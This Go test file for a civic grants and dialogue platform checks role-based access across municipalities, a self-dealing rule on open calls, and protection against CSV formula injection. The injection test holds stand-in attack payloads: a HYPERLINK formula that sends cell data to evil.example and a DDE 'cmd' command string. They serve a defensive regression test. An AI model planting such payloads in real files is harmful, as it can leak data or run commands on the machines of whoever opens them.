package app

import (
	"context"
	"encoding/csv"
	"math/rand/v2"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/dijalog/dijalog/internal/auth"
	"github.com/dijalog/dijalog/internal/csvout"
	"github.com/dijalog/dijalog/internal/db"
	"github.com/dijalog/dijalog/internal/db/dbtest"
	"github.com/dijalog/dijalog/internal/grants"
	"github.com/dijalog/dijalog/internal/surveys"
)

// The demo accounts of the role × route checks below; "" is anonymous.
var securityRoles = []string{
	"",
	"gradjanin@demo.dijalog.ba",
	"koordinator.mostar@demo.dijalog.ba",
	"osoblje.trnovo@demo.dijalog.ba",
	"koordinator.trebinje@demo.dijalog.ba",
	"admin@demo.dijalog.ba",
	"ocd@demo.dijalog.ba",
}

func (ta *testApp) as(t *testing.T, email string) *http.Client {
	t.Helper()
	if email == "" {
		return ta.client(t)
	}
	return ta.login(t, email)
}

// TestFinding03CrossLSGResidency (HTTP): on the inter-municipal platform
// Mostar – Trebinje – Trnovo every role tries to issue verification codes
// and to verify a resident for Trnovo and for its own LSG. Only people with
// a role in that LSG who manage the platform (and the admin) succeed.
func TestFinding03CrossLSGResidency(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ta := newTestApp(t, d)
		page := ta.srv.URL + "/en/platforms/medjuopstinska-dijaloska-platforma-mostar-trebinje-trnovo/manage"
		const ok, no, login = http.StatusOK, http.StatusForbidden, http.StatusSeeOther
		// want[role] = status for codes of Trnovo, of Mostar, of Trebinje.
		want := map[string][3]int{
			"":                                     {login, login, login},
			"gradjanin@demo.dijalog.ba":            {no, no, no},
			"koordinator.mostar@demo.dijalog.ba":   {no, ok, no},
			"osoblje.trnovo@demo.dijalog.ba":       {no, no, no}, // staff: not a platform manager
			"koordinator.trebinje@demo.dijalog.ba": {no, no, ok},
			"admin@demo.dijalog.ba":                {ok, ok, ok},
			"ocd@demo.dijalog.ba":                  {no, no, no},
		}
		for _, role := range securityRoles {
			c := ta.as(t, role)
			for i, lsg := range []string{"ba-fbih-trnovo", "ba-fbih-mostar", "ba-rs-trebinje"} {
				v := url.Values{"csrf_token": {ta.csrf(t, c)}, "count": {"1"}, "lsg": {lsg}}
				status, _, body := postForm(t, c, page+"/codes", v)
				if status != want[role][i] {
					t.Errorf("%q codes for %s: %d, want %d: %.200s", role, lsg, status, want[role][i], body)
				}
				if status == no && role == "koordinator.mostar@demo.dijalog.ba" && lsg == "ba-fbih-trnovo" && !strings.Contains(body, "no role in this local self-government") {
					t.Errorf("refusal without its message: %.300s", body)
				}
			}
		}
		// Verifying a resident in person follows the same rule.
		c := ta.login(t, "koordinator.mostar@demo.dijalog.ba")
		for lsg, st := range map[string]int{"ba-fbih-trnovo": no, "ba-fbih-mostar": login} {
			v := url.Values{"csrf_token": {ta.csrf(t, c)}, "email": {"gradjanin@demo.dijalog.ba"}, "lsg": {lsg}}
			if status, _, body := postForm(t, c, page+"/resident", v); status != st {
				t.Errorf("Mostar verifies a resident of %s: %d, want %d: %.200s", lsg, status, st, body)
			}
		}
		// The form offers only the coordinator's own LSG.
		_, body := get(t, c, page)
		if strings.Contains(body, `<option value="ba-fbih-trnovo">`) {
			t.Error("the manage page offers Trnovo to the Mostar coordinator")
		}
	})
}

// csvFormulaCells parses a CSV body and returns the cells a spreadsheet
// would run as formulas (those that begin with = + - @, tab or CR and are
// not numbers).
func csvFormulaCells(t *testing.T, body string) []string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(body))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("csv: %v: %.200s", err, body)
	}
	var bad []string
	for _, rec := range recs {
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !csvout.Number(c) {
				bad = append(bad, c)
			}
		}
	}
	return bad
}

const csvPayload = `=HYPERLINK("http://evil.example/?"&A1,"Klik")`

// TestFinding06CSVInjection (HTTP): an applicant's or respondent's text
// that starts a formula comes out of the support CSV and a survey's
// responses export behind a quote; the amounts stay numbers.
func TestFinding06CSVInjection(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ta := newTestApp(t, d)
		ctx := context.Background()
		in := "year,lsg,funder,recipient,amount,currency,purpose,procedure\n" +
			`2025,ba-fbih-mostar,@SUM(1+1)*cmd,"` + strings.ReplaceAll(csvPayload, `"`, `""`) + `",12.50,BAM,"+1+cmd|' /C calc'!A0",open_call` + "\n"
		if n, bad, err := ta.ImportSupport(ctx, strings.NewReader(in)); err != nil || len(bad) > 0 || n != 1 {
			t.Fatalf("import: %d %v %v", n, bad, err)
		}
		status, body := get(t, ta.client(t), ta.srv.URL+"/api/v1/grants/support.csv")
		if status != http.StatusOK {
			t.Fatalf("support.csv: %d", status)
		}
		if bad := csvFormulaCells(t, body); len(bad) > 0 {
			t.Errorf("support.csv has formula cells: %q", bad)
		}
		if !strings.Contains(body, `"'=HYPERLINK(`) || !strings.Contains(body, "'@SUM(") {
			t.Errorf("support.csv lost the payload instead of quoting it: %.300s", body)
		}
		// A survey answer, exported by its manager.
		sv := ta.surveyByTemplate(t, surveys.TemplateFinansirajGO)
		ans := surveys.RandomAnswers(sv.Def, rand.New(rand.NewPCG(1, 2)))
		ans = append(ans, surveys.Answer{Question: "comments", Value: csvPayload})
		if _, err := ta.elogeWiring.Surveys.Submit(ctx, sv, surveys.Submission{IdemKey: surveys.NewKey(), Answers: ans, Lang: "bs", BrowserToken: surveys.NewKey(), IP: "10.9.9.9"}); err != nil {
			t.Fatalf("submit: %v", err)
		}
		status, body = get(t, ta.login(t, "admin@demo.dijalog.ba"), ta.srv.URL+"/en/admin/surveys/"+sv.PublicID+"/responses.csv")
		if status != http.StatusOK {
			t.Fatalf("responses.csv: %d", status)
		}
		if bad := csvFormulaCells(t, body); len(bad) > 0 {
			t.Errorf("responses.csv has formula cells: %q", bad)
		}
		if !strings.Contains(body, `"'=HYPERLINK(`) {
			t.Errorf("responses.csv lost the payload: %.300s", body)
		}
	})
}

// TestFinding04SelfDealing (HTTP): LDA Mostar publishes an open call; its
// representative (ocd@) manages it but may not apply to it for LDA Mostar;
// the other roles are refused as before (a citizen with no organisation
// gets the form back: 422).
func TestFinding04SelfDealing(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ta := newTestApp(t, d)
		ctx := context.Background()
		rep, err := ta.Auth.UserByEmail(ctx, "ocd@demo.dijalog.ba")
		if err != nil {
			t.Fatal(err)
		}
		rep, _ = ta.Auth.UserByPublicID(ctx, rep.PublicID)
		orgs := grants.ApplicantOrgs(rep)
		if len(orgs) == 0 {
			t.Fatal("ocd@ represents no organisation")
		}
		slug := ta.publishCallOf(t, rep, orgs[0], "Vlastiti poziv")
		want := map[string]int{"": http.StatusSeeOther, "gradjanin@demo.dijalog.ba": http.StatusUnprocessableEntity, "ocd@demo.dijalog.ba": http.StatusForbidden}
		for role, st := range want {
			cl := ta.as(t, role)
			v := url.Values{"csrf_token": {ta.csrf(t, cl)}, "org": {orgs[0]}, "q1": {"yes"}}
			status, _, body := postForm(t, cl, ta.srv.URL+"/en/calls/"+slug+"/apply", v)
			if status != st {
				t.Errorf("%q applies for LDA Mostar to LDA Mostar's call: %d, want %d: %.200s", role, status, st, body)
			}
			if role == "ocd@demo.dijalog.ba" && !strings.Contains(body, "cannot apply to a call it publishes") {
				t.Errorf("the refusal does not say why: %.300s", body)
			}
		}
	})
}

// publishCallOf opens an open call published by org (rep represents it),
// titled title, and returns its slug.
func (ta *testApp) publishCallOf(t *testing.T, rep *auth.User, org, title string) string {
	t.Helper()
	ctx := context.Background()
	zone, now := ta.Grants.Zone(), time.Now()
	c, err := ta.Grants.Calls.Create(ctx, rep, grants.CallInput{
		Publisher: "org:" + org, Funder: "LDA Mostar", Lang: "bs",
		Texts:    []grants.Text{{Lang: "bs", Title: title, Body: "Tekst poziva."}},
		Currency: "BAM", Total: "10.000", Min: "500", Max: "2.000", OwnSharePct: "10", DivergencePct: "30",
		OpensAt: grants.FormatLocal(now.Add(-time.Hour), zone), QuestionsUntil: grants.FormatLocal(now.AddDate(0, 0, 5), zone), ClosesAt: grants.FormatLocal(now.AddDate(0, 0, 10), zone),
		Eligibility: "yes | Registrovano?", Form: "budget | Budžet | required", Criteria: "100 | 10 | Kvalitet",
	}, grants.Meta{})
	if err != nil {
		t.Fatal(err)
	}
	if err := ta.Grants.Calls.Publish(ctx, rep, c.Slug, grants.Meta{}); err != nil {
		t.Fatal(err)
	}
	return c.Slug
}
